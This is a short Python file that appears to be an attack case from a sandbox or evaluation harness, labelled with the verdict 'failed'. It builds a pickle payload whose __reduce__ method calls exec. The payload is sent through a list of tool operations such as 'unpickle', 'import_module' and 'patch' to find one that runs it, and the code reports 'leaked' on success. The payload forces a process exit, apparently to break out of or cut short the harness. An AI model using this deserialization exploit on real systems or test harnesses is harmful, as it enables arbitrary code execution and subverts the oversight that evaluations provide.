# /// attack
# verdict = ["failed"]
# ///
"""The operation that loads a pickle, asked for in the other direction."""

import pickle

from tools import request


class Bomb:
    def __reduce__(self):
        return (exec, ("raise SystemExit(0)",))


def answer():
    for name in ("unpickle", "pickle", "subclass", "import_module", "reload", "patch", "equal"):
        try:
            request(name, pickle.dumps(Bomb()))
        except Exception:
            continue
        return f"leaked: {name} was carried out"
    return 0
